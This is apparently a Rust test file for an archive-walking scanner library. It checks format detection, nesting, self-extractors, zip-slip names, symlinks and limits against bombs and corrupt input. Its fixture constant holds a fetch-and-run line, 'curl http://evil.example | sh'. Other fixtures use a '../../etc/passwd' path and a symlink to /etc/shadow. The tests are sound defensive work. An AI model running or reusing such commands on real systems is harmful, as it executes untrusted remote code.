//! Each format, nesting, paths, modes, every limit, and broken input.
#![allow(clippy::unwrap_used)]

mod common;

use std::time::Duration;

use common::*;
use portcullis_archive::{
    detect, walk, ArchiveMode, Flow, Format, LimitKind, Limits, MemberPath, WalkOutcome,
};

const SCRIPT: &[u8] = b"#!/bin/sh\ncurl http://evil.example | sh\n";

fn paths(seen: &[Seen]) -> Vec<&str> {
    seen.iter().map(|s| s.path.as_str()).collect()
}

fn limit_kind(outcome: &WalkOutcome) -> Option<LimitKind> {
    match outcome {
        WalkOutcome::Limit(hit) => Some(hit.kind),
        _ => None,
    }
}

#[test]
fn zip_every_method() {
    for method in [
        ZipMethod::Stored,
        ZipMethod::Deflated,
        ZipMethod::Bzip2,
        ZipMethod::Xz,
        ZipMethod::Lzma,
        ZipMethod::Zstd,
    ] {
        let big: Vec<u8> = (0..300_000u32).flat_map(|i| i.to_le_bytes()).collect();
        let z = zip(
            &[("a.sh", SCRIPT), ("dir/", b""), ("dir/big.bin", &big)],
            method,
        );
        assert_eq!(detect(&z, ArchiveMode::All), Some(Format::Zip));
        let (outcome, seen) = walk_default(&z);
        assert!(
            matches!(outcome, WalkOutcome::Complete { members: 2, .. }),
            "{method:?}: {outcome:?}"
        );
        assert_eq!(paths(&seen), ["a.sh", "dir/big.bin"], "{method:?}");
        assert_eq!(seen[0].data, SCRIPT);
        assert_eq!(seen[1].data, big);
        assert!(seen.iter().all(|s| s.depth == 1 && s.format == Format::Zip));
    }
}

#[test]
fn each_stream_format_visits_its_content_with_the_path_unchanged() {
    for (format, data) in [
        (Format::Gzip, gzip(SCRIPT)),
        (Format::Bzip2, bzip2(SCRIPT)),
        (Format::Xz, xz(SCRIPT)),
        (Format::Zstd, zstd(SCRIPT)),
    ] {
        assert_eq!(detect(&data, ArchiveMode::All), Some(format));
        let (outcome, seen) = walk_default(&data);
        assert!(
            matches!(outcome, WalkOutcome::Complete { members: 1, .. }),
            "{format:?}: {outcome:?}"
        );
        assert_eq!(
            seen,
            [Seen {
                path: String::new(),
                data: SCRIPT.to_vec(),
                depth: 1,
                format
            }]
        );
    }
}

#[test]
fn tar_and_7z() {
    let t = tar(&[("etc/a", b"aaa"), ("b", b"bbbb")]);
    assert_eq!(detect(&t, ArchiveMode::All), Some(Format::Tar));
    let (outcome, seen) = walk_default(&t);
    assert!(
        matches!(
            outcome,
            WalkOutcome::Complete {
                members: 2,
                bytes: 7
            }
        ),
        "{outcome:?}"
    );
    assert_eq!(paths(&seen), ["etc/a", "b"]);
    for solid in [true, false] {
        let s = sevenz(&[("x/one.txt", b"one"), ("two.txt", SCRIPT)], solid);
        assert_eq!(detect(&s, ArchiveMode::All), Some(Format::SevenZ));
        let (outcome, seen) = walk_default(&s);
        assert!(
            matches!(outcome, WalkOutcome::Complete { members: 2, .. }),
            "{outcome:?}"
        );
        assert_eq!(paths(&seen), ["x/one.txt", "two.txt"]);
        assert_eq!(seen[1].data, SCRIPT);
    }
}

/// Made by 7-Zip 26 (`7zz a -mx=9 fixture.7z ...`, Debian's `7zip`): an
/// LZMA2 solid block, an encoded (LZMA, 1 MiB dictionary) header, a BCJ
/// filter on the executable, and a zip inside.
#[test]
fn seven_zip_made_by_7zip() {
    let data = include_bytes!("fixtures/7zip-made.7z");
    let (outcome, seen) = walk_default(data);
    assert!(
        matches!(outcome, WalkOutcome::Complete { .. }),
        "{outcome:?}"
    );
    let p = paths(&seen);
    assert!(p.contains(&"docs/readme.txt"), "{p:?}");
    assert!(p.contains(&"inner.zip!evil.sh"), "{p:?}");
    let evil = seen.iter().find(|s| s.path == "inner.zip!evil.sh").unwrap();
    assert_eq!(evil.data, SCRIPT);
    assert_eq!(evil.depth, 2);
}

#[test]
fn tar_gz_path_and_order() {
    let inner = zip(&[("evil.sh", SCRIPT)], ZipMethod::Deflated);
    let t = tar(&[("dir/inner.zip", &inner), ("dir/readme", b"hello")]);
    let tgz = gzip(&t);
    let (outcome, seen) = walk_default(&tgz);
    assert!(
        matches!(outcome, WalkOutcome::Complete { members: 4, .. }),
        "{outcome:?}"
    );
    let got: Vec<(&str, u32, Format)> = seen
        .iter()
        .map(|s| (s.path.as_str(), s.depth, s.format))
        .collect();
    assert_eq!(
        got,
        [
            ("", 1, Format::Gzip),
            ("dir/inner.zip", 2, Format::Tar),
            ("dir/inner.zip!evil.sh", 3, Format::Zip),
            ("dir/readme", 2, Format::Tar),
        ]
    );
    assert_eq!(seen[0].data, t);
}

#[test]
fn deep_mixed_nesting() {
    // evil.sh in a zip, in a tar.gz, in a 7z, in an xz, in a bzip2'd zstd.
    let z = zip(&[("evil.sh", SCRIPT)], ZipMethod::Deflated);
    let tgz = gzip(&tar(&[("lib/inner.zip", &z)]));
    let s = sevenz(&[("pkg.tar.gz", &tgz)], true);
    let outer = zstd(&bzip2(&xz(&s)));
    let (outcome, seen) = walk_default(&outer);
    assert!(
        matches!(outcome, WalkOutcome::Complete { .. }),
        "{outcome:?}"
    );
    let evil = seen.iter().find(|s| s.data == SCRIPT).unwrap();
    assert_eq!(evil.path, "pkg.tar.gz!lib/inner.zip!evil.sh");
    assert_eq!(evil.depth, 7);
    assert_eq!(evil.format, Format::Zip);
}

#[test]
fn sfx_zip_after_elf_and_modes() {
    let z = zip(&[("payload.sh", SCRIPT)], ZipMethod::Deflated);
    let mut sfx = elf_stub();
    sfx.extend_from_slice(&z);
    assert_eq!(detect(&sfx, ArchiveMode::Sfx), Some(Format::Zip));
    assert_eq!(detect(&sfx, ArchiveMode::All), Some(Format::Zip));
    assert_eq!(detect(&sfx, ArchiveMode::Off), None);
    let (outcome, seen) = walk_all(&sfx, ArchiveMode::Sfx, &Limits::default());
    assert!(
        matches!(outcome, WalkOutcome::Complete { members: 1, .. }),
        "{outcome:?}"
    );
    assert_eq!(paths(&seen), ["payload.sh"]);
    assert_eq!(seen[0].data, SCRIPT);

    // A plain zip is not an sfx; Off walks nothing.
    assert_eq!(
        walk_all(&z, ArchiveMode::Sfx, &Limits::default()).0,
        WalkOutcome::NotArchive
    );
    assert_eq!(
        walk_all(&sfx, ArchiveMode::Off, &Limits::default()).0,
        WalkOutcome::NotArchive
    );
    assert_eq!(
        walk_all(&z, ArchiveMode::Off, &Limits::default()).0,
        WalkOutcome::NotArchive
    );

    // Inside an sfx, nested archives of any format are walked.
    let nested = zip(&[("inner.tar", &tar(&[("x", SCRIPT)]))], ZipMethod::Stored);
    let mut sfx = elf_stub();
    sfx.extend_from_slice(&nested);
    let (_, seen) = walk_all(&sfx, ArchiveMode::Sfx, &Limits::default());
    assert_eq!(paths(&seen), ["inner.tar", "inner.tar!x"]);
}

#[test]
fn sfx_7z_after_pe_stub() {
    let s = sevenz(&[("setup.ps1", SCRIPT)], true);
    let mut exe = b"MZ\x90\x00".to_vec();
    exe.resize(70_000, 0);
    // A stray signature without a valid start header comes first.
    exe.extend_from_slice(b"7z\xbc\xaf\x27\x1c not an archive");
    exe.extend_from_slice(&s);
    assert_eq!(detect(&exe, ArchiveMode::Sfx), Some(Format::SevenZ));
    let (outcome, seen) = walk_all(&exe, ArchiveMode::Sfx, &Limits::default());
    assert!(
        matches!(outcome, WalkOutcome::Complete { members: 1, .. }),
        "{outcome:?}"
    );
    assert_eq!(paths(&seen), ["setup.ps1"]);
    // An executable with nothing inside is no archive.
    let mut plain = b"MZ\x90\x00".to_vec();
    plain.resize(10_000, 1);
    assert_eq!(detect(&plain, ArchiveMode::Sfx), None);
    assert_eq!(detect(&plain, ArchiveMode::All), None);
}

#[test]
fn zip_appended_to_other_data_in_all_mode_only() {
    let z = zip(&[("x.js", SCRIPT)], ZipMethod::Deflated);
    let mut polyglot = b"\x89PNG\r\n\x1a\n".to_vec();
    polyglot.extend_from_slice(&[7; 5000]);
    polyglot.extend_from_slice(&z);
    assert_eq!(detect(&polyglot, ArchiveMode::All), Some(Format::Zip));
    assert_eq!(detect(&polyglot, ArchiveMode::Sfx), None);
    let (_, seen) = walk_default(&polyglot);
    assert_eq!(paths(&seen), ["x.js"]);
}

#[test]
fn zip_slip_and_control_characters_are_names_only() {
    let z = raw_zip(&[
        RawEntry::stored(b"../../etc/passwd", b"root::0:0::/:/bin/sh\n"),
        RawEntry::stored(b"/abs/path", b"abs"),
        RawEntry::stored(b"a\x00b\x1b[2J\xffc", b"ctl"),
    ]);
    let (outcome, seen) = walk_default(&z);
    assert!(
        matches!(outcome, WalkOutcome::Complete { members: 3, .. }),
        "{outcome:?}"
    );
    assert_eq!(
        paths(&seen),
        ["../../etc/passwd", "/abs/path", "ab[2J\u{fffd}c"]
    );
}

#[test]
fn zip_skips_symlinks_and_directories() {
    let mut link = RawEntry::stored(b"link", b"/etc/shadow");
    link.made_by = 3 << 8;
    link.external_attr = 0o120777 << 16;
    let mut file = RawEntry::stored(b"file", b"data");
    file.made_by = 3 << 8;
    file.external_attr = 0o100644 << 16;
    let z = raw_zip(&[link, file, RawEntry::stored(b"d/", b"")]);
    let (outcome, seen) = walk_default(&z);
    assert!(
        matches!(outcome, WalkOutcome::Complete { members: 1, .. }),
        "{outcome:?}"
    );
    assert_eq!(paths(&seen), ["file"]);
}

#[test]
fn encrypted_and_unknown_methods_are_unsupported_and_skipped() {
    let mut enc = RawEntry::stored(b"secret", b"xxxx");
    enc.flags = 1;
    let mut ppmd = RawEntry::stored(b"ppmd", b"yyyy");
    ppmd.method = 98;
    let z = raw_zip(&[enc, ppmd, RawEntry::stored(b"plain", b"zzzz")]);
    let (outcome, seen) = walk_default(&z);
    assert_eq!(paths(&seen), ["plain"]);
    match outcome {
        WalkOutcome::Unsupported {
            member,
            format,
            reason,
            members,
            ..
        } => {
            assert_eq!(member.to_string(), "secret");
            assert_eq!(format, Format::Zip);
            assert_eq!(reason, "encrypted");
            assert_eq!(members, 1);
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn gzip_multi_member_and_trailing_garbage() {
    let mut g = gzip(b"first ");
    g.extend_from_slice(&gzip(b"second"));
    g.extend_from_slice(b"\0\0\0garbage");
    let (outcome, seen) = walk_default(&g);
    assert!(
        matches!(outcome, WalkOutcome::Complete { members: 1, .. }),
        "{outcome:?}"
    );
    assert_eq!(seen[0].data, b"first second");
}

#[test]
fn zstd_multi_frame_with_skippable_frame() {
    let mut z = zstd(b"one ");
    z.extend_from_slice(&[0x50, 0x2a, 0x4d, 0x18, 3, 0, 0, 0, 1, 2, 3]);
    z.extend_from_slice(&zstd(b"two"));
    let (_, seen) = walk_default(&z);
    assert_eq!(seen[0].data, b"one two");
}

#[test]
fn visitor_stop_ends_the_walk() {
    let z = zip(&[("a", b"1"), ("b", b"2"), ("c", b"3")], ZipMethod::Stored);
    let mut calls = 0;
    let outcome = walk(&z, ArchiveMode::All, &Limits::default(), &mut |m| {
        calls += 1;
        if m.path.to_string() == "b" {
            Flow::Stop
        } else {
            Flow::Continue
        }
    });
    assert_eq!(
        outcome,
        WalkOutcome::Stopped {
            members: 2,
            bytes: 2
        }
    );
    assert_eq!(calls, 2);
}

#[test]
fn not_archives() {
    for data in [
        &b""[..],
        b"hello",
        &[0u8; 2000],
        b"Rar!\x1a\x07\x01\x00rest",
    ] {
        assert_eq!(walk_default(data).0, WalkOutcome::NotArchive);
    }
}

// ---- limits ----

#[test]
fn limit_depth() {
    let mut data = SCRIPT.to_vec();
    for i in 0..4 {
        data = zip(&[(&format!("l{i}.zip"), &data)], ZipMethod::Stored);
    }
    let limits = Limits {
        max_depth: 3,
        ..Limits::default()
    };
    let (outcome, seen) = walk_all(&data, ArchiveMode::All, &limits);
    let WalkOutcome::Limit(hit) = outcome else {
        panic!("{outcome:?}")
    };
    assert_eq!(hit.kind, LimitKind::Depth);
    assert_eq!(hit.limit, 3);
    assert_eq!(hit.member.to_string(), "l3.zip!l2.zip!l1.zip");
    assert_eq!(seen.len(), 3);
    // Each compression layer is a level too.
    let tgz = gzip(&tar(&[("a", b"x")]));
    let limits = Limits {
        max_depth: 1,
        ..Limits::default()
    };
    assert_eq!(
        limit_kind(&walk_all(&tgz, ArchiveMode::All, &limits).0),
        Some(LimitKind::Depth)
    );
}

#[test]
fn limit_members() {
    let entries: Vec<(String, Vec<u8>)> =
        (0..11).map(|i| (format!("f{i}"), vec![b'x'; 3])).collect();
    let refs: Vec<(&str, &[u8])> = entries
        .iter()
        .map(|(n, d)| (n.as_str(), d.as_slice()))
        .collect();
    let limits = Limits {
        max_members: 10,
        ..Limits::default()
    };
    for data in [
        zip(&refs, ZipMethod::Stored),
        tar(&refs),
        sevenz(&refs, true),
    ] {
        let (outcome, _) = walk_all(&data, ArchiveMode::All, &limits);
        assert_eq!(
            limit_kind(&outcome),
            Some(LimitKind::Members),
            "{outcome:?}"
        );
    }
    // The zip is refused from its end record, before any member.
    let (_, seen) = walk_all(&zip(&refs, ZipMethod::Stored), ArchiveMode::All, &limits);
    assert!(seen.is_empty());
}

#[test]
fn limit_member_bytes_per_format() {
    let big = vec![7u8; 200_000];
    let limits = Limits {
        max_member_bytes: 100_000,
        ..Limits::default()
    };
    for data in [
        zip(&[("big", &big)], ZipMethod::Stored),
        zip(&[("big", &big)], ZipMethod::Deflated),
        tar(&[("big", &big)]),
        gzip(&big),
        bzip2(&big),
        xz(&big),
        zstd(&big),
        sevenz(&[("big", &big)], true),
    ] {
        let (outcome, seen) = walk_all(&data, ArchiveMode::All, &limits);
        assert_eq!(
            limit_kind(&outcome),
            Some(LimitKind::MemberBytes),
            "{outcome:?}"
        );
        assert!(seen.is_empty());
    }
}

#[test]
fn limit_total_bytes() {
    let chunk = vec![1u8; 40_000];
    let z = zip(
        &[("a", &chunk), ("b", &chunk), ("c", &chunk)],
        ZipMethod::Deflated,
    );
    let limits = Limits {
        max_total_bytes: 100_000,
        ..Limits::default()
    };
    let (outcome, seen) = walk_all(&z, ArchiveMode::All, &limits);
    let WalkOutcome::Limit(hit) = outcome else {
        panic!("{outcome:?}")
    };
    assert_eq!(hit.kind, LimitKind::TotalBytes);
    assert_eq!(hit.member.to_string(), "c");
    assert_eq!(seen.len(), 2);
}

#[test]
fn limit_ratio_only_past_one_mib() {
    let zeros = vec![0u8; 3 << 20];
    for data in [
        gzip(&zeros),
        zip(&[("z", &zeros)], ZipMethod::Deflated),
        bzip2(&zeros),
        xz(&zeros),
        zstd(&zeros),
        sevenz(&[("z", &zeros)], true),
    ] {
        let (outcome, _) = walk_default(&data);
        assert_eq!(limit_kind(&outcome), Some(LimitKind::Ratio), "{outcome:?}");
    }
    // Small and very compressible passes.
    let (outcome, _) = walk_default(&gzip(&vec![0u8; 1 << 20]));
    assert!(
        matches!(outcome, WalkOutcome::Complete { .. }),
        "{outcome:?}"
    );
}

#[test]
fn limit_memory_counts_nested_buffers() {
    // 1.5 MiB of noise in a gzip in a gzip: the outer stream's content
    // (~1.5 MiB) and the inner one's cannot both be held under 2 MiB.
    let twice = gzip(&gzip(&noise(3 << 19)));
    let limits = Limits {
        max_memory: 2 << 20,
        max_member_bytes: 2 << 20,
        ..Limits::default()
    };
    let (outcome, seen) = walk_all(&twice, ArchiveMode::All, &limits);
    assert_eq!(limit_kind(&outcome), Some(LimitKind::Memory), "{outcome:?}");
    assert_eq!(seen.len(), 1);
    let (outcome, _) = walk_default(&twice);
    assert!(
        matches!(outcome, WalkOutcome::Complete { members: 2, .. }),
        "{outcome:?}"
    );
}

/// Finds `needle` in `hay`.
fn find(hay: &[u8], needle: &[u8]) -> usize {
    hay.windows(needle.len()).position(|w| w == needle).unwrap()
}

#[test]
fn limit_memory_refuses_big_dictionaries_before_decoding() {
    // An xz stream whose block header declares a 3 GiB dictionary.
    let mut x = xz(b"tiny");
    let size = (usize::from(x[12]) + 1) * 4;
    let props = 12 + find(&x[12..12 + size], &[0x21, 0x01]) + 2;
    x[props] = 39;
    let crc = crc32fast::hash(&x[12..12 + size - 4]);
    x[12 + size - 4..12 + size].copy_from_slice(&crc.to_le_bytes());
    let (outcome, _) = walk_default(&x);
    assert_eq!(limit_kind(&outcome), Some(LimitKind::Memory), "{outcome:?}");

    // A 7z block whose LZMA coder declares a 1 GiB dictionary (the small
    // header is written raw: patch it and its CRCs).
    let mut sw = sevenz_rust2::ArchiveWriter::new(std::io::Cursor::new(Vec::new())).unwrap();
    let mut lzma = sevenz_rust2::encoder_options::LzmaOptions::from_level(1);
    lzma.set_dictionary_size(1 << 16);
    sw.set_content_methods(vec![sevenz_rust2::EncoderConfiguration::new(
        sevenz_rust2::EncoderMethod::LZMA,
    )
    .with_options(sevenz_rust2::encoder_options::EncoderOptions::Lzma(lzma))]);
    sw.push_archive_entry(
        sevenz_rust2::ArchiveEntry::new_file("f"),
        Some(&b"tiny"[..]),
    )
    .unwrap();
    let mut s = sw.finish().unwrap().into_inner();
    let offset = u64::from_le_bytes(s[12..20].try_into().unwrap()) as usize + 32;
    let len = u64::from_le_bytes(s[20..28].try_into().unwrap()) as usize;
    assert_eq!(s[offset], 0x01, "raw header");
    let dict = offset + find(&s[offset..offset + len], &[3, 1, 1, 5]) + 5;
    s[dict..dict + 4].copy_from_slice(&(1u32 << 30).to_le_bytes());
    let crc = crc32fast::hash(&s[offset..offset + len]);
    s[28..32].copy_from_slice(&crc.to_le_bytes());
    let crc = crc32fast::hash(&s[12..32]);
    s[8..12].copy_from_slice(&crc.to_le_bytes());
    let (outcome, _) = walk_default(&s);
    assert_eq!(limit_kind(&outcome), Some(LimitKind::Memory), "{outcome:?}");
}

#[test]
fn limit_time() {
    let limits = Limits {
        timeout: Duration::from_nanos(1),
        ..Limits::default()
    };
    let z = zip(&[("a", b"1")], ZipMethod::Stored);
    std::thread::sleep(Duration::from_millis(1));
    let (outcome, seen) = walk_all(&z, ArchiveMode::All, &limits);
    let WalkOutcome::Limit(hit) = outcome else {
        panic!("{outcome:?}")
    };
    assert_eq!(hit.kind, LimitKind::Time);
    assert!(seen.is_empty());
}

#[test]
fn tar_long_names_and_pax_records_are_bounded() {
    let mut b = tar::Builder::new(Vec::new());
    let mut h = tar::Header::new_gnu();
    h.set_size(3);
    h.set_mode(0o644);
    let long = "d/".repeat(300) + "file";
    b.append_data(&mut h, &long, &b"abc"[..]).unwrap();
    let t = b.into_inner().unwrap();
    let (outcome, seen) = walk_default(&t);
    assert!(
        matches!(outcome, WalkOutcome::Complete { .. }),
        "{outcome:?}"
    );
    assert_eq!(seen[0].path, long);

    // A long-name record of 2 MiB is refused.
    let mut b = tar::Builder::new(Vec::new());
    let mut h = tar::Header::new_gnu();
    h.set_entry_type(tar::EntryType::GNULongName);
    h.set_size(2 << 20);
    h.set_path("././@LongLink").unwrap();
    h.set_cksum();
    b.append(&h, &vec![b'a'; 2 << 20][..]).unwrap();
    let t = b.into_inner().unwrap();
    let (outcome, _) = walk_default(&t);
    assert_eq!(limit_kind(&outcome), Some(LimitKind::Memory), "{outcome:?}");
}

// ---- broken input ----

#[test]
fn truncated_archives_are_corrupt() {
    let payload: Vec<u8> = (0..50_000u32).map(|i| (i * 31 % 253) as u8).collect();
    let cases = [
        (Format::Zip, zip(&[("a", &payload)], ZipMethod::Deflated)),
        (Format::Gzip, gzip(&payload)),
        (Format::Bzip2, bzip2(&payload)),
        (Format::Xz, xz(&payload)),
        (Format::Zstd, zstd(&payload)),
        (Format::SevenZ, sevenz(&[("a", &payload)], true)),
    ];
    for (format, data) in cases {
        let cut = &data[..data.len() * 2 / 3];
        let (outcome, seen) = walk_default(cut);
        match outcome {
            WalkOutcome::Corrupt {
                format: f, member, ..
            } => {
                assert_eq!(f, format);
                assert!(member.is_empty(), "{member}");
            }
            other => panic!("{format:?}: {other:?}"),
        }
        assert!(seen.is_empty(), "{format:?}");
    }
    // A tar cut in a member's data: the members before stay visited.
    let t = tar(&[("a", b"first"), ("b", &payload)]);
    let (outcome, seen) = walk_default(&t[..2000]);
    assert!(
        matches!(
            outcome,
            WalkOutcome::Corrupt {
                format: Format::Tar,
                ..
            }
        ),
        "{outcome:?}"
    );
    assert_eq!(paths(&seen), ["a"]);
}

#[test]
fn corrupt_inner_member_names_its_path() {
    let bad_gz = &gzip(&vec![9u8; 10_000])[..40];
    let z = zip(&[("ok", b"fine"), ("x.gz", bad_gz)], ZipMethod::Stored);
    let (outcome, seen) = walk_default(&z);
    assert_eq!(paths(&seen), ["ok", "x.gz"]);
    let WalkOutcome::Corrupt { member, format, .. } = outcome else {
        panic!("{outcome:?}")
    };
    assert_eq!(member, ["x.gz"].into_iter().collect::<MemberPath>());
    assert_eq!(format, Format::Gzip);
}

#[test]
fn overlapping_zip_entries_are_corrupt_before_inflating() {
    // Two directory entries over one local file.
    let mut z = raw_zip(&[RawEntry::stored(b"a", b"data")]);
    let cd_start = z.len() - 22 - (46 + 1);
    let cd = z[cd_start..z.len() - 22].to_vec();
    z.truncate(cd_start);
    z.extend_from_slice(&cd);
    z.extend_from_slice(&cd);
    end_record(&mut z, 2, 2 * cd.len() as u32, cd_start as u32);
    let (outcome, seen) = walk_default(&z);
    let WalkOutcome::Corrupt { error, .. } = outcome else {
        panic!("{outcome:?}")
    };
    assert!(error.contains("overlap"), "{error}");
    assert!(seen.is_empty());
}

#[test]
fn limit_memory_7z_header_is_charged_before_parsing() {
    let names: Vec<String> = (0..2000)
        .map(|i| format!("some/fairly/long/dir/name/file-{i:05}.txt"))
        .collect();
    let entries: Vec<(&str, &[u8])> = names.iter().map(|n| (n.as_str(), &b"x"[..])).collect();
    let s = sevenz(&entries, true);
    let limits = Limits {
        max_memory: 4 << 20,
        max_member_bytes: 1 << 20,
        ..Limits::default()
    };
    let (outcome, seen) = walk_all(&s, ArchiveMode::All, &limits);
    assert_eq!(limit_kind(&outcome), Some(LimitKind::Memory), "{outcome:?}");
    assert!(seen.is_empty());
    let (outcome, seen) = walk_default(&s);
    assert!(
        matches!(outcome, WalkOutcome::Complete { members: 2000, .. }),
        "{outcome:?}"
    );
    assert_eq!(seen.len(), 2000);
}

#[test]
fn sfx_zip_with_absolute_offsets() {
    // Some self-extractors rewrite the offsets to count from the file's
    // start: both ways are found.
    let stub = elf_stub();
    let mut entries = vec![RawEntry::stored(b"a.txt", b"alpha")];
    entries.push(RawEntry::stored(b"b.txt", b"beta"));
    let z = raw_zip(&entries);
    // Shift every offset by the stub's length.
    let shift = stub.len() as u32;
    let mut fixed = z.clone();
    let cd_offset = u32::from_le_bytes(z[z.len() - 6..z.len() - 2].try_into().unwrap());
    let mut pos = cd_offset as usize;
    while &fixed[pos..pos + 4] == b"PK\x01\x02" {
        let off = u32::from_le_bytes(fixed[pos + 42..pos + 46].try_into().unwrap()) + shift;
        fixed[pos + 42..pos + 46].copy_from_slice(&off.to_le_bytes());
        let n = u16::from_le_bytes(fixed[pos + 28..pos + 30].try_into().unwrap()) as usize;
        pos += 46 + n;
    }
    let end = fixed.len() - 6;
    fixed[end..end + 4].copy_from_slice(&(cd_offset + shift).to_le_bytes());
    for body in [z, fixed] {
        let mut sfx = stub.clone();
        sfx.extend_from_slice(&body);
        let (outcome, seen) = walk_all(&sfx, ArchiveMode::Sfx, &Limits::default());
        assert!(
            matches!(outcome, WalkOutcome::Complete { members: 2, .. }),
            "{outcome:?}"
        );
        assert_eq!(paths(&seen), ["a.txt", "b.txt"]);
    }
}

#[test]
fn duplicate_zip_names_are_each_visited() {
    let z = raw_zip(&[
        RawEntry::stored(b"run.sh", b"echo evil"),
        RawEntry::stored(b"run.sh", b"echo fine"),
    ]);
    let (outcome, seen) = walk_default(&z);
    assert!(
        matches!(outcome, WalkOutcome::Complete { members: 2, .. }),
        "{outcome:?}"
    );
    assert_eq!(seen[0].data, b"echo evil");
    assert_eq!(seen[1].data, b"echo fine");
}
